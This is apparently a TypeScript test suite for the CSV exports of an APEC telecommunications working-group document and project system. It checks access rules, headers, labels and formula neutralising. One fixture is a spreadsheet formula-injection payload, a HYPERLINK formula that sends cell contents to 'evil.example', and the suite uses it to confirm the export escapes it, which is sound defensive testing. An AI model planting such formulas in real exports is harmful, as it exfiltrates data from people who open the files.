import { APPROVAL_KIND_LABELS, DECISION_MODE_LABELS } from '@tel/approvals';
import { Role } from '@tel/core';
import { DOCUMENT_ACCESS_LABELS, DOCUMENT_STATUS_LABELS } from '@tel/documents';
import { FORM_ANSWER_LABELS, FUNDING_ACCOUNT_LABELS, PROGRESS_REPORT_STATUS_LABELS, PROJECT_STATUS_LABELS } from '@tel/projects';
import { accountFor, createTestApp, signInBrowser, TestAccount, TestApp, tokenFor } from '@tel/testing';
import { readCsv } from '../libs/exports/src/testing/csv-read';
import { tel37Documents } from '../seed/documents/tel37-documents';
import { getOnce, restrictedMentionsIn, restrictedPapers } from './export-helpers';

/**
 * The CSV exports, parsed back with csv-parse: UTF-8 with a BOM, CRLF, the columns APEC lists,
 * formula cells neutralised, and the documents rule — restricted rows (and any text naming a
 * restricted paper) only for signed-in members, by bearer token or session cookie, never for an
 * anonymous caller.
 */
describe('CSV exports', () => {
  let t: TestApp;
  let secretariat: string;
  let delegate: TestAccount;
  let cookie: Record<string, string>;

  const get = (path: string, headers: Record<string, string> = {}) => getOnce(`${t.url}${path}`, headers);
  const csv = async (path: string, headers: Record<string, string> = {}) => {
    const res = await get(path, headers);
    expect(res.status).toBe(200);
    const body = Buffer.from(await res.arrayBuffer());
    return { res, body, text: body.toString('utf8'), ...readCsv(body) };
  };

  async function gqlOk<T = Record<string, never>>(query: string, variables: Record<string, unknown>, token?: string): Promise<T> {
    const res = await t.gql<T>(query, variables, token);
    if (res.errors || !res.data) throw new Error(JSON.stringify(res.errors));
    return res.data;
  }

  beforeAll(async () => {
    t = await createTestApp();
    secretariat = await tokenFor(t, [Role.SECRETARIAT]);
    delegate = await accountFor(t, [Role.DELEGATE], { economyCode: 'THA' }); // submitted none of the restricted papers
    cookie = (await signInBrowser(t, delegate)).headers;
    for (const title of ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '殭屍網路 (botnet) 研究報告 — 網路安全']) {
      await gqlOk(
        `mutation($input: RegisterDocumentInput!) { registerDocument(input: $input) { symbol } }`,
        { input: { meetingCode: 'TEL37', groupCode: 'DSG', title, type: 'INFORMATION_PAPER', purpose: 'INFORMATION', access: 'PUBLIC' } },
        secretariat,
      );
    }
  });
  afterAll(() => t?.close());

  describe("a meeting's document list", () => {
    const PATH = '/exports/meetings/TEL37/documents.csv';
    const seedTel37 = tel37Documents.filter((d) => d.symbol.includes('TELWG37'));

    it('is text/csv in UTF-8 with a BOM, named after the meeting, with APEC’s columns', async () => {
      const { res, header, text } = await csv(PATH);
      expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(res.headers.get('content-disposition')).toBe('attachment; filename="TEL37-documents.csv"');
      expect(res.headers.get('etag')).toBeTruthy();
      expect(Date.parse(res.headers.get('last-modified') ?? '')).not.toBeNaN();
      expect(header).toEqual(['Symbol', 'Title', 'Submitted by', 'Group', 'Agenda item', 'Access', 'Status', 'Revisions']);
      expect(text.slice(1).split('\r\n')[0]).toBe(header.join(','));
    });

    it('gives anonymous callers the public rows only, and no trace of a restricted paper; public cache rule', async () => {
      const { res, rows, text } = await csv(PATH);
      expect(res.headers.get('cache-control')).toBe('public, no-cache');
      expect(rows.every((r) => r.Access === 'Public')).toBe(true);
      const publicSeed = seedTel37.filter((d) => d.access === 'PUBLIC').map((d) => d.symbol);
      expect(rows.map((r) => r.Symbol)).toEqual(expect.arrayContaining(publicSeed));
      expect(rows).toHaveLength(publicSeed.length + 2);
      expect(restrictedMentionsIn(text)).toEqual([]);
    });

    it.each([
      ['a bearer token', () => ({ authorization: `Bearer ${delegate.token}` })],
      ['a session cookie', () => cookie],
    ])('gives members signed in with %s every row, privately', async (_, headers) => {
      const { res, rows } = await csv(PATH, headers());
      expect(res.headers.get('cache-control')).toBe('private, no-cache');
      expect(res.headers.get('vary')).toBe('Authorization, Cookie');
      const symbols = rows.map((r) => r.Symbol);
      for (const paper of restrictedPapers.filter((d) => d.symbol.includes('TELWG37'))) expect(symbols).toContain(paper.symbol);
      expect(rows).toHaveLength(seedTel37.length + 2);
    });

    it('lists revisions, submitter, group and agenda item as GraphQL gives them', async () => {
      const { rows } = await csv(PATH, { authorization: `Bearer ${secretariat}` });
      const doc = (await gqlOk<{ document: { revisions: { number: number }[] } }>(`{ document(symbol: "2008-TELWG37-SPSG-006") { revisions { number } } }`, {}, secretariat))
        .document;
      const row = rows.find((r) => r.Symbol === '2008-TELWG37-SPSG-006')!;
      expect(row.Revisions).toBe(
        doc.revisions
          .map((r) => r.number)
          .sort((a, b) => a - b)
          .map((n) => `Rev.${n}`)
          .join(', '),
      );
      expect(row.Group).toBe('SPSG');
      expect(row['Submitted by']).toBeTruthy();
      expect(rows.some((r) => /^\d+(\.[a-z0-9]+)* \S/.test(r['Agenda item']))).toBe(true);
    });

    it('neutralises a formula and keeps Chinese exactly', async () => {
      const { rows } = await csv(PATH);
      expect(rows.map((r) => r.Title)).toContain(`'=HYPERLINK("http://evil.example/?"&A1,"Click")`);
      expect(rows.map((r) => r.Title)).toContain('殭屍網路 (botnet) 研究報告 — 網路安全');
      expect(rows.every((r) => Object.values(r).every((cell) => !/^[=+\-@\t\r]/.test(cell)))).toBe(true);
    });

    it('answers 304 to a matching If-None-Match and a JSON 404 for an unknown meeting', async () => {
      const first = await get(PATH);
      expect((await get(PATH, { 'if-none-match': first.headers.get('etag')! })).status).toBe(304);
      // A member's list differs from the anonymous one, so the anonymous ETag does not match it.
      expect((await get(PATH, { 'if-none-match': first.headers.get('etag')!, authorization: `Bearer ${secretariat}` })).status).toBe(200);
      const missing = await get('/exports/meetings/TEL99/documents.csv');
      expect(missing.status).toBe(404);
      expect(((await missing.json()) as { error: { reason: string } }).error.reason).toBe('MEETING_NOT_FOUND');
    });
  });

  describe('the project register', () => {
    it('has one row per project, as GraphQL counts them', async () => {
      const { res, rows, header } = await csv('/exports/projects.csv');
      expect(res.headers.get('content-disposition')).toBe('attachment; filename="project-register.csv"');
      expect(header).toEqual(expect.arrayContaining(['Project number', 'Title', 'Status', 'Steering group', 'Proposing economies', 'Total cost']));
      const total = (await gqlOk<{ projects: { totalCount: number } }>(`{ projects(first: 1) { totalCount } }`, {})).projects.totalCount;
      expect(rows).toHaveLength(total);
      const pki = rows.find((r) => /PKI/.test(r.Title))!;
      expect(pki).toMatchObject({ 'Steering group': 'SPSG', 'Proposing economies': 'CT' });
    });
  });

  describe('the approvals board', () => {
    it('has one row per waiting request, and names no restricted paper to anonymous callers', async () => {
      const board = (await gqlOk<{ approvalBoard: { body: { code: string }; entries: unknown[] }[] }>(`{ approvalBoard { body { code } entries { request { subject } } } }`, {}))
        .approvalBoard;
      const { rows, text } = await csv('/exports/approvals-board.csv');
      expect(rows).toHaveLength(board.reduce((n, c) => n + c.entries.length, 0));
      expect(rows.filter((r) => r['Waiting on'] === 'TEL')).toHaveLength(board.find((c) => c.body.code === 'TEL')?.entries.length ?? 0);
      expect(restrictedMentionsIn(text)).toEqual([]);
      const member = await csv('/exports/approvals-board.csv', { authorization: `Bearer ${secretariat}` });
      expect(member.rows).toHaveLength(rows.length);
    });

    it('refuses a malformed asOf with a coded 400', async () => {
      const res = await get('/exports/approvals-board.csv?asOf=yesterday');
      expect(res.status).toBe(400);
      expect(((await res.json()) as { error: { reason: string } }).error.reason).toBe('DATE_MALFORMED');
    });
  });

  describe("a meeting's progress reports", () => {
    it('lists the submitted reports to everyone and a draft only to its overseers and the Secretariat', async () => {
      const anonymous = await csv('/exports/meetings/TEL37/progress-reports.csv');
      expect(anonymous.res.headers.get('content-disposition')).toBe('attachment; filename="TEL37-progress-reports.csv"');
      expect(anonymous.rows.length).toBeGreaterThan(0);
      expect(anonymous.rows.every((r) => r.Status !== 'Draft')).toBe(true);
      expect(restrictedMentionsIn(anonymous.text)).toEqual([]);

      const overseer = await accountFor(t, [Role.OVERSEER], { economyCode: 'CT' });
      const project = (
        await gqlOk<{ createProject: { id: string } }>(
          `mutation($input: CreateProjectInput!) { createProject(input: $input) { id } }`,
          { input: { title: '+Draft-only project', steeringGroupCode: 'SPSG', status: 'IN_PROGRESS', overseerAccountEmails: [overseer.email] } },
          secretariat,
        )
      ).createProject;
      await gqlOk(
        `mutation($input: DraftProgressReportInput!) { draftProgressReport(input: $input) { id } }`,
        { input: { projectId: project.id, meetingCode: 'TEL37' } },
        overseer.token,
      );

      const again = await csv('/exports/meetings/TEL37/progress-reports.csv');
      expect(again.rows).toHaveLength(anonymous.rows.length);
      const mine = await csv('/exports/meetings/TEL37/progress-reports.csv', { authorization: `Bearer ${overseer.token}` });
      expect(mine.rows).toHaveLength(anonymous.rows.length + 1);
      expect(mine.rows.find((r) => r.Status === 'Draft')!.Project).toBe("'+Draft-only project");
      const other = await csv('/exports/meetings/TEL37/progress-reports.csv', cookie);
      expect(other.rows).toHaveLength(anonymous.rows.length);
    });
  });

  describe('values as a head of delegation reads them', () => {
    /** Every code of the enums the exports print: none may reach a cell as it is stored. */
    const CODES = new Set(
      [
        DOCUMENT_ACCESS_LABELS,
        DOCUMENT_STATUS_LABELS,
        PROJECT_STATUS_LABELS,
        FUNDING_ACCOUNT_LABELS,
        PROGRESS_REPORT_STATUS_LABELS,
        FORM_ANSWER_LABELS,
        APPROVAL_KIND_LABELS,
        DECISION_MODE_LABELS,
      ].flatMap((labels) => Object.keys(labels)),
    );
    const DATE = /^\d{4}(-\d{2}(-\d{2})?)?$/;

    it.each(['/exports/meetings/TEL37/documents.csv', '/exports/meetings/TEL37/progress-reports.csv', '/exports/projects.csv', '/exports/approvals-board.csv'])(
      '%s has no enum code in any cell',
      async (path) => {
        const { rows } = await csv(path, { authorization: `Bearer ${secretariat}` });
        expect(rows.length).toBeGreaterThan(0);
        const codes = rows.flatMap((r) => Object.values(r)).filter((cell) => CODES.has(cell));
        expect(codes).toEqual([]);
      },
    );

    it('writes words, US$ sums and dates with their precision', async () => {
      const docs = (await csv('/exports/meetings/TEL37/documents.csv', { authorization: `Bearer ${secretariat}` })).rows;
      expect(new Set(docs.map((r) => r.Access))).toEqual(new Set(['Public', 'Restricted']));
      expect(docs.map((r) => r.Status)).toContain('Registered');

      const projects = (await csv('/exports/projects.csv')).rows;
      expect(projects.map((r) => r.Status)).toContain('In progress');
      const sums = projects.flatMap((r) => [r['Total cost'], r['APEC funding']]).filter(Boolean);
      expect(sums.length).toBeGreaterThan(0);
      for (const sum of sums) expect(sum).toMatch(/^(at least )?US\$\d{1,3}(,\d{3})*\.\d{2}$/);
      const dates = projects.flatMap((r) => [r.Start, r.End]).filter(Boolean);
      expect(dates.length).toBeGreaterThan(0);
      for (const date of dates) expect(date).toMatch(DATE);

      const reports = (await csv('/exports/meetings/TEL37/progress-reports.csv', { authorization: `Bearer ${secretariat}` })).rows;
      for (const answer of reports.flatMap((r) => [r['On schedule'], r['Within budget']]).filter(Boolean)) expect(['Yes', 'No', 'N.A.', 'Unknown']).toContain(answer);
      for (const date of reports.flatMap((r) => [r.Signed, r['Received by the Secretariat'], r['Endorsed on']]).filter(Boolean)) expect(date).toMatch(DATE);

      const board = (await csv('/exports/approvals-board.csv')).rows;
      for (const r of board) {
        expect(Object.values(APPROVAL_KIND_LABELS)).toContain(r.Request);
        expect(Object.values(DECISION_MODE_LABELS)).toContain(r.Decision);
        if (r['Filed on']) expect(r['Filed on']).toMatch(DATE);
        if (r['Waiting since']) expect(r['Waiting since']).toMatch(DATE);
      }
    });
  });
});
